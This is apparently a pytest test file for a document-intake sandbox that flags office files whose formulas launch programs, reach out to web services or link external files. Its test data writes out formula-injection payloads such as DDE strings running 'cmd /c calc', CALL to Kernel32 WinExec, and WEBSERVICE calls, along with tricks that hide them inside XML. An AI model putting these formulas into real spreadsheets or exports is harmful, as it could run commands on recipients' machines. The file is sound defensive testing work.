"""Hold what a formula asks, wherever in it and wherever it stands, and that a text asks nothing."""

import pytest

from intake.sandbox.formats.office_files import inspect_office
from intake.sandbox.office.formulas.in_cells import of_formula
from intake.sandbox.office.formulas.in_text import SYLK, find_in_sheet, find_in_text
from intake.sandbox.office.legacy_binary import find_unseen_in_binary_part
from intake.sandbox.office.ooxml import find_in_xml
from intake.sandbox.office.packages import EXCEL
from tests.samples.files.office import odt, xlsx
from tests.support.growth.measure import is_linear

ODS = "application/vnd.oasis.opendocument.spreadsheet"
ASKING = {
    "cmd|'/c calc'!A0": "office_dde",
    "1+cmd|'/c calc'!A0": "office_dde",
    "IF(1,cmd|'/c calc'!A0)": "office_dde",
    "SUM(A1,-cmd|'/c calc'!A0)": "office_dde",
    "'cmd'|'/c calc'!A0": "office_dde",
    "msexcel|'\\..\\..\\calc.exe'!''": "office_dde",
    "cmd |'/c calc'!A0": "office_dde",
    "IF(A1=\"a\",'a\"b'|'c\"d'!x)": "office_dde",
    'DDE("a","b","c")': "office_dde",
    '_xlfn.DDE ("a";"b";"c")': "office_dde",
    'IF(1,WEBSERVICE("http://a.example/"&A1))': "office_web_service",
    'IFERROR(IMPORTXML("http://a.example","//a"),0)': "office_web_service",
    'importData("http://a.example")': "office_web_service",
    'IF(1,CALL("Kernel32","WinExec","JCJ","calc",0))': "office_program_call",
    '1+EXEC("calc")': "office_program_call",
    "MAP(A1:A9,_xleta.IMAGE)": "office_web_service",
    "MAP(A1:A9,_xlfn.WEBSERVICE)": "office_web_service",
    '(_xlfn.WEBSERVICE)("http://a.example")': "office_web_service",
    '( (IMAGE) ) ("http://a.example")': "office_web_service",
    "BYROW(A1:B2,_xlfn._xleta.REGISTER.ID)": "office_program_call",
    "_xll.Rate(A1)": "office_program_call",
    "IF(1,_XLL.Rate.of(A1),0)": "office_program_call",
}
HARMLESS = [
    '"a|b"',
    'A1&"a|b!"',
    'IF(A1="",\'It is\'!A1,"cmd|\'/c calc\'!A0")',
    '"it\'s"&"a|b!"&"it\'s"',
    '"say ""a|b!"""',
    'A1&" CALL(1)"',
    '{1;2|3;4}+A!B1',
    'SUM({"a"|"b"})',
    "RECALL(1)+IMAGES!A1",
    "SUM(Image!A1,Table1[IMAGE],Call,'Call'!B2)",
    "MAP(A1:A9,_xleta.SUM)+_xlfn.IMAGES",
    "'C:\\a b'!A1+'http list'!B2",
    "'Blad 1'#REF!+'no # here'!A1",
    "SUM(A1:A9)",
    'A1&"_xll.Rate(1)"',
    "SUM(my_xll.A1)",
]  # fmt: skip


def in_xml(formula: str) -> str:
    for letter, written in (("&", "&amp;"), ("<", "&lt;"), ('"', "&quot;")):
        formula = formula.replace(letter, written)
    return formula


PLACES = [
    '<c r="A1"><f>{}</f><v>1</v></c>',
    '<c r="A1"><f t="array" ref="A1">{}</f><v>1</v></c>',
    '<definedNames><definedName name="a">{}</definedName></definedNames>',
    "<conditionalFormatting><cfRule><formula>{}</formula></cfRule></conditionalFormatting>",
    "<dataValidation><formula1>1</formula1><formula2>{}</formula2></dataValidation>",
    '<x:cfRule xmlns:x="a" xmlns:m="b"><m:f>{}</m:f></x:cfRule>',
    "<calculatedColumnFormula>{}</calculatedColumnFormula>",
    '<cacheField name="a" formula="{}"/>',
    '<sp textlink="{}"/>',
]


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("formula", ASKING)
def test_workbook_that_asks_is_active(place: str, formula: str) -> None:
    found = inspect_office(xlsx(place.format(in_xml(formula))), f"{EXCEL}.sheet")

    assert (found.state, ASKING[formula] in found.findings) == ("active", True)


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("formula", HARMLESS)
def test_workbook_with_such_words_is_clean(place: str, formula: str) -> None:
    found = inspect_office(xlsx(place.format(in_xml(formula))), f"{EXCEL}.sheet")

    assert (found.state, found.findings) == ("clean", ())


@pytest.mark.parametrize("place", [
    '<table:table-cell table:formula="of:={}"/>',
    '<table:named-expression table:expression="of:={}"/>',
    '<style:map style:condition="is-true-formula({})"/>',
])  # fmt: skip
@pytest.mark.parametrize("formula", ASKING)
def test_opendocument_that_asks_is_active(place: str, formula: str) -> None:
    content = odt(place.format(in_xml(formula)), kind="spreadsheet")

    found = inspect_office(content, "application/vnd.oasis.opendocument.spreadsheet")

    assert (found.state, ASKING[formula] in found.findings) == ("active", True)


@pytest.mark.parametrize(
    "name",
    [
        "'http://a.example/b.ods'#$S.A1",
        "'file:///C:/b.ods'#$'S 1'.A1",
        "SUM('../it''s.ods'#S.A1:B2)",
        "'http://a.example/[b.xlsx]S'!A1",
        "'\\\\server\\[b.xlsx]S'!A1",
    ],
)
def test_formula_that_reads_another_file_loads_it(name: str) -> None:
    cell = f'<table:table-cell table:formula="of:=1+{name}"/>'

    found = inspect_office(odt(cell, kind="spreadsheet"), ODS)

    assert (found.state, found.findings) == ("active", ("office_external_link",))


PREFIXES = ("a-b", "a.b", "é", "Ж", "_a1", "a·b")
WITHIN = ("<!-- a -->", "<?a b?>", "<![CDATA[]]>", "<!---->")


@pytest.mark.parametrize("prefix", PREFIXES)
def test_prefix_of_a_name_hides_no_formula(prefix: str) -> None:
    rule = (
        f'<{prefix}:cfRule xmlns:{prefix}="a"><{prefix}:f>CALL("a")</{prefix}:f></{prefix}:cfRule>'
    )

    assert find_in_xml(f"<a>{rule}</a>".encode()) == {"office_program_call"}


@pytest.mark.parametrize("within", WITHIN)
def test_nothing_within_a_name_hides_it(within: str) -> None:
    called = f"<a><f>CA{within}LL(1)</f></a>"
    asked = f"<a><f>cmd{within}|'/c calc'!A0</f></a>"
    field = f"<a><instrText>DD{within}EAUTO tool.exe</instrText></a>"

    assert find_in_xml(called.encode()) == {"office_program_call"}
    assert find_in_xml(asked.encode()) == {"office_dde"}
    assert find_in_xml(field.encode()) == {"office_dde"}


@pytest.mark.parametrize(
    "attribute", ['textlink ="CALL(1)"', 'fmlaLink\n=\n"CALL(1)"', 'x:formula="CALL(1)"']
)
def test_blanks_and_prefixes_hide_no_attribute(attribute: str) -> None:
    assert find_in_xml(f'<a xmlns:x="b"><sp {attribute}/></a>'.encode()) == {"office_program_call"}


def test_comment_in_a_part_without_formulas_says_nothing() -> None:
    part = '<?xml version="1.0"?><!-- made by hand --><a><?b c?><f>SUM(A1)</f><v>CALL(1)</v></a>'

    assert find_in_xml(part.encode()) == set()


def quoted(cell: str) -> str:
    doubled = cell.replace('"', '""')
    return f'"{doubled}"'


@pytest.mark.parametrize("start", ["=", " = ", "\t=", "'=", "+", "-1+", "@"])
@pytest.mark.parametrize("formula", ASKING)
def test_text_of_a_sheet_that_asks_is_told(start: str, formula: str) -> None:
    code = ASKING[formula].replace("office_dde", "sheet_dde")
    is_called_apart = start[0] in "+-@" and "DDE (" in formula

    alone = find_in_text(f"{start}{formula}\r\n")
    in_quotes = find_in_text(f"a,{quoted(start + formula)},b\r\n")

    assert (alone == in_quotes == {code}) or is_called_apart


@pytest.mark.parametrize(
    "line",
    [
        "a;=IF(1,cmd|'/c calc'!A0)",
        "a,=IF(1;cmd|'/c calc'!A0),b",
        '="a;b";"=cmd|\'/c calc\'!A0"',
        '="a;"";=cmd|\'/c calc\'!A0;"b"',
        '"a\nb";"=1+\ncmd|\'/c calc\'!A0"',
        "sep=;\r\n-1+cmd|'/c calc'!A0;1",
    ],
)
def test_cells_are_parted_as_any_country_does(line: str) -> None:
    assert find_in_text(line) == {"sheet_dde"}


@pytest.mark.parametrize("formula", HARMLESS)
def test_text_of_a_sheet_with_such_words_tells_nothing(formula: str) -> None:
    assert find_in_text(f"a;{quoted('=' + formula)}\r\n") == set()


@pytest.mark.parametrize(
    "text",
    [
        "Hej\n- call (070-123), image (bifogas)\n+ register (hos polisen)\n@ exec (chef)\n",
        "| Namn | Ring! |\n|------|-------|\n| Eva | - |\n",
        "Vi ringde WEBSERVICE( och CALL(1).\n",
    ],
)
def test_letter_is_no_sheet(text: str) -> None:
    assert find_in_text(text) == set()


@pytest.mark.parametrize("formula", ASKING)
def test_expression_of_sylk_is_read(formula: str) -> None:
    escaped = formula.replace(";", ";;")
    content = f"ID;P\r\nC;X1;Y1;K0;E{escaped}\r\nE\r\n".encode()

    found = find_in_sheet(content, SYLK)

    assert ASKING[formula].replace("office_dde", "sheet_dde") in found


def test_value_of_sylk_is_no_formula() -> None:
    assert find_in_sheet(b'ID;P\r\nC;X1;Y1;K"a|b!"\r\nE\r\n', SYLK) == set()


@pytest.mark.parametrize(
    ("kind", "tokens", "code"),
    [
        (b"\x08", b"\x42\x02\x96\x00", "office_program_call"),
        (b"\x0b", b"\x22\x02\x7b\x01", "office_program_call"),
        (b"\x27", "_xlfn.WEBSERVICE".encode("utf-16-le"), "office_web_service"),
        (b"\x40", b"\x42\x02\x96\x00", "office_program_call"),
        (b"\xcf\x03", b"\x42\x02\x0b\x01", "office_program_call"),
        (b"\xaa\x03", b"\x42\x02\x95\x00", "office_program_call"),
    ],
)
def test_formula_of_a_binary_workbook_is_read(kind: bytes, tokens: bytes, code: str) -> None:
    body = bytes(12) + tokens

    assert find_unseen_in_binary_part(kind + bytes([len(body)]) + body) == {code}


@pytest.mark.parametrize(
    "unit",
    [
        "=a|",
        "'a'#",
        "'a://[",
        "=IMAGE)",
        '"',
        "'",
        "a|",
        "=1;",
        '="";',
        '"="',
        "a |",
        "{",
        "=a,\t;",
    ],
)
def test_formulas_are_read_in_time(unit: str) -> None:
    def of_size(size: int) -> str:
        return unit * (size // len(unit))

    assert is_linear(find_in_text, of_size, 200_000)
    assert is_linear(lambda text: list(of_formula(text)), of_size, 200_000)


@pytest.mark.parametrize(
    "formula",
    [
        "'CALL (1)'!A1",
        "SUM('REGISTER.ID (2)'!A1:B2,'EXEC(x)'!C3)",
        "'[1]CALL (1)'!A1",
        "'it''s CALL (1)'!A1",
        "['CALL (1)'.A1]",
        "CALL!A1",
    ],
)
def test_name_of_a_sheet_is_no_call(formula: str) -> None:
    assert list(of_formula(formula)) == []


@pytest.mark.parametrize(
    "formula",
    ["'CALL (1)'!A1+CALL(\"k\")", '"\'"&CALL("k")&"\'!A1"', "'x'&CALL(\"k\")&'y'!A1", "'CALL (1)'"],
)
def test_call_beside_the_name_of_a_sheet_is_one(formula: str) -> None:
    assert list(of_formula(formula)) == ["office_program_call"]
